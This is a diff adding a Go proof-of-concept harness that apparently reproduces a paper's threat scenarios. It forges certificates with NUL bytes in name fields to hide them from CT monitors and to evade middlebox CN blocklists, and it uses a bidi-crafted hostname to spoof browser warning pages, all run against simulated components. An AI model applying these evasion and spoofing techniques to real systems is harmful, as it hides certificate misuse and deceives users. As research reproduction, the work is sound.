@@ -1,0 +1,86 @@
+// threathunt: chain the three RQ3 threat scenarios end to end — forge
+// a certificate for a victim domain, hide it from CT monitors, slip
+// its TLS exchange past middlebox rules, and spoof the browser warning
+// page a user would see.
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/big"
+	"net"
+	"time"
+
+	"repro/internal/browser"
+	"repro/internal/middlebox"
+	"repro/internal/monitor"
+	"repro/internal/x509cert"
+)
+
+func main() {
+	caKey, err := x509cert.GenerateKey(71)
+	if err != nil {
+		log.Fatal(err)
+	}
+	leafKey, err := x509cert.GenerateKey(72)
+	if err != nil {
+		log.Fatal(err)
+	}
+	build := func(cn, san string, serial int64) *x509cert.Certificate {
+		tpl := &x509cert.Template{
+			SerialNumber: big.NewInt(serial),
+			Issuer:       x509cert.SimpleDN(x509cert.TextATV(x509cert.OIDCommonName, "Compromised CA")),
+			Subject:      x509cert.SimpleDN(x509cert.TextATV(x509cert.OIDCommonName, cn)),
+			NotBefore:    time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC),
+			NotAfter:     time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC),
+			SAN:          []x509cert.GeneralName{x509cert.DNSName(san)},
+		}
+		der, err := x509cert.Build(tpl, caKey, leafKey)
+		if err != nil {
+			log.Fatal(err)
+		}
+		c, err := x509cert.Parse(der)
+		if err != nil {
+			log.Fatal(err)
+		}
+		return c
+	}
+
+	// Act 1 — mislead the CT monitors (§6.1): the forged certificate's
+	// indexed fields embed a NUL, so the owner's queries miss it.
+	forged := build("victim.example\x00.attacker.site", "victim.example\x00.attacker.site", 1)
+	fmt.Println("Act 1: CT monitor misleading")
+	for _, r := range monitor.MisleadExperiment(forged, "victim.example") {
+		fmt.Printf("  %-18s concealed=%v (%s)\n", r.Monitor, r.Concealed, r.Detail)
+	}
+
+	// Act 2 — evade the middleboxes (§6.2): serve the forged chain over
+	// an in-memory TLS-1.2-style exchange and test the blocklist.
+	fmt.Println("\nAct 2: traffic obfuscation")
+	evil := build("Evil\x00 Entity", "c2.attacker.site", 2)
+	client, server := net.Pipe()
+	go func() {
+		h := &middlebox.Handshake{Chain: [][]byte{evil.Raw}}
+		_ = h.Serve(server)
+	}()
+	chain, err := middlebox.ReadChain(client)
+	if err != nil && len(chain) == 0 {
+		log.Fatal(err)
+	}
+	observed, err := x509cert.Parse(chain[0])
+	if err != nil {
+		log.Fatal(err)
+	}
+	rule := middlebox.Rule{Field: "CN", Value: "Evil Entity"}
+	for _, res := range middlebox.Evasion(observed, rule) {
+		fmt.Printf("  %-9s rule CN=%q evaded=%v (saw CN=%q)\n", res.Engine, rule.Value, res.Evaded, res.Extract.CN)
+	}
+
+	// Act 3 — spoof the user (Appendix F.1): a bidi-crafted hostname in
+	// the warning page.
+	fmt.Println("\nAct 3: user spoofing")
+	spoof := build("www.‮lapyap‬.com", "www.‮lapyap‬.com", 3)
+	for _, e := range browser.Engines() {
+		fmt.Printf("  %-18s %q\n", e, browser.WarningPage(e, spoof))
+	}
+}
